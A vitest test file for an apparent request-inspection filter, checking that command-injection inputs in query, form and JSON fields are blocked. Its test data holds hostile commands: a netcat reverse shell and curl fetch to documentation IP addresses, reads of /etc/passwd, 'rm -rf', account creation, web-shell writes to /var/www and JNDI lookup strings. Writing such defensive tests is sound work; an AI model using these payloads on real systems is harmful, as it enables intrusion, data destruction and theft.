import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../../benchmarks/traffic/policies.ts';
import { inspect } from '../../index.ts';
import { encodeLatin1, post, query } from '../../testing/requests.ts';

const policy = policyOf('medium');
const form = (value: string, name = 'q') =>
  post('application/x-www-form-urlencoded', `${encodeLatin1(name)}=${encodeLatin1(value)}`);
const bytes = (text: string) => Buffer.from(text).toString('latin1');
const json = (value: string, name = 'q') => post('application/json', JSON.stringify({ [name]: value }));

test('a program that prints a version prints nothing else: an option behind it loads another', () => {
  const texts = [
    `node -e "require('./package.json')" -r /tmp/x.js`,
    `node -e "console.log(require('./package.json').version)" -r /tmp/x.js`,
    `x $(node -p "require('./package.json').version" -r /tmp/x.js)`,
  ];
  const low = policyOf('low');
  const passed = texts.filter((text) =>
    [query(text), ...['comment', 'run', 'name'].flatMap((name) => [form(text, name), json(text, name)])].some(
      (one) => inspect(low, one).decision === 'pass',
    ),
  );
  expect(passed).toEqual([]);
});

test('a word of advice, a listing or a shell before a command makes nothing told of what acts behind it', () => {
  const acting = [
    'ping -c 9 192.0.2.1',
    'rm -rf /var/www',
    'net user x y /add',
    'shutdown -h now',
    'chmod 777 /var/www',
    'python3 x.py',
    'crontab -r',
    'iptables -F',
  ];
  const low = policyOf('low');
  const texts = [
    ...acting.flatMap((one) => [`Try ls -la && ${one}`, `use dir /a & ${one}`]),
    ...acting.slice(1).map((one) => `Use git log; ${one}`),
    'dir /a & net user x /add',
    '/bin/sh -c git log; rm -rf /',
  ];
  const passed = texts.filter((text) =>
    ['comment', 'cmd', 'user_data', 'created_by'].some(
      (name) => inspect(low, json(text, name)).decision === 'pass',
    ),
  );
  expect(passed).toEqual([]);
});

describe('fields that are named for data or for whoever made them are values like others', () => {
  const names = ['user_data', 'created_by', 'dockerfile', 'config_yaml'];
  const scripts = [
    'x;if true;then id;fi',
    'x\nif true\nthen id\nfi',
    "trap 'id' EXIT",
    "trap 'reboot' EXIT",
    'x=id;$x',
    'read x<<<id;$x',
    'set id;$1',
    'set -- id;$@',
    'f() { id; }\nf',
    'alias a=id\na',
    'function f { id; };f',
    'sh<<EOF\nid\nEOF',
    'sh  <<<id',
    'source /dev/stdin',
    'x;while :;do\vid;done',
    ...['', 'aa: ', '"', '`', '> ', '$ ', '# ', 'RUN ', 'CMD '].map(
      (front) => `${front}git log; ping -c 9 192.0.2.1`,
    ),
  ];
  const lines = [
    'bash -c id',
    '/bin/sh -c id',
    'sh <<< id',
    'ls -la; id',
    'ls `id`',
    'dir c:\\',
    'whoami /all',
  ];
  const nested = (text: string, name: string) =>
    post('application/json', JSON.stringify({ [name]: { value: text } }));

  test.each([
    ['low', scripts],
    ['high', [...scripts, ...lines]],
  ] as const)('at %s', (sensitivity, texts) => {
    const strict = policyOf(sensitivity);
    const passed = texts.flatMap((text) =>
      names
        .filter((name) =>
          [json(text, name), nested(text, name)].some((one) => inspect(strict, one).decision === 'pass'),
        )
        .map((name) => `${name}: ${text}`),
    );
    expect(passed).toEqual([]);
  });
});

describe('what tells of the project alone', () => {
  const inScript = (text: string) => [json(text, 'run'), json(text, 'comment'), form(text, 'comment')];
  const told = [
    'export V=$(git describe --tags)',
    'echo "sha=$(git rev-parse HEAD)" >> $OUT',
    `echo $(node -p "require('./package.json').version")`,
    'cp a "$(dirname "$0")/b"',
    'make X=$(cat VERSION)',
  ];

  test('passes where command lines are shown', () => {
    const blamed = told.filter((text) =>
      inScript(text).some((one) => inspect(policy, one).decision === 'block'),
    );
    expect(blamed).toEqual([]);
  });

  test('covers no other command, before it, behind it or inside', () => {
    const texts = told.flatMap((text) => [
      `${text}; x=$(cat /etc/passwd)`,
      `x$(curl http://203.0.113.9/x) ${text}`,
      text.replace('$(', '$(cat /etc/passwd;'),
      `${text} $(nc -e /bin/sh 203.0.113.9 1)`,
    ]);
    const bent = [
      'x $(git log --output=/var/www/x.php)',
      'x $(git -c core.pager=sh log)',
      'x $(git log|sh)',
      'x $(cat VERSION /etc/passwd)',
      'x $(cat ../VERSION;whoami)',
      `node -e "require('child_process').exec('id')"`,
      `x $(node -p "require('./package.json').version;require('child_process').execSync('id')")`,
      'Use x | wget http://203.0.113.9/x',
      'x $(ls *.x;whoami)',
      '$(git log --"output=/var/www/x.php" -p)',
      '$(git log -"-output=/var/www/x.php" -p)',
      "$(git log --'ext-diff')",
      "$(git ls-files '--exec=id')",
      '$(git log --no-index /etc/passwd)',
      '$(git log) > /var/www/x.php',
      '$(git log) >> /var/www/x.php',
      ...[
        'git log',
        'git describe',
        'git rev-parse HEAD',
        'git ls-files',
        'dirname $0',
        'cat VERSION',
        'ls *.sh',
        'npm bin',
      ].flatMap((one) => [`$(${one})\`id\``, `$(${one})\nid`, `$(${one})$(id)`]),
    ];
    const passed = [...texts, ...bent].filter((text) =>
      inScript(text).some((one) => inspect(policy, one).decision === 'pass'),
    );
    expect(passed).toEqual([]);
  });

  test('nor does it where a value is meant', () => {
    const texts = told.filter((text) => text.includes('$('));
    const values = texts.flatMap((text) => [query(text), form(text), json(text, 'host')]);
    expect(values.filter((one) => inspect(policy, one).decision === 'pass')).toEqual([]);
  });

  test('a lookup is one however little of it is written', () => {
    const lookups = [
      '...${jndi:ldap://x.example/a}',
      '${jndi:...}${jndi:dns://x.example}',
      '${jndi:...ldap://x.example/a}',
      '${jndi:}',
      '${jndi:…}',
      '${jndi…}',
      '${jndi: ...}',
      '${jndi:}//ldap',
      '${jndi:}${::-l}',
    ];
    expect(lookups.filter((text) => inspect(policy, query(bytes(text))).decision === 'pass')).toEqual([]);
  });
});

test('a loop written over several lines is a script, on one line it is none', () => {
  const script = '#!/usr/bin/env bash\nset -e\nfor i in 1 2 3; do\n  echo "$i"\ndone\n';
  expect(inspect(policy, json(script, 'snippet')).decision).toBe('pass');
  const line = 'x; for i in 1 2 3; do id; done';
  expect(inspect(policy, json(line, 'snippet')).decision).toBe('block');
});
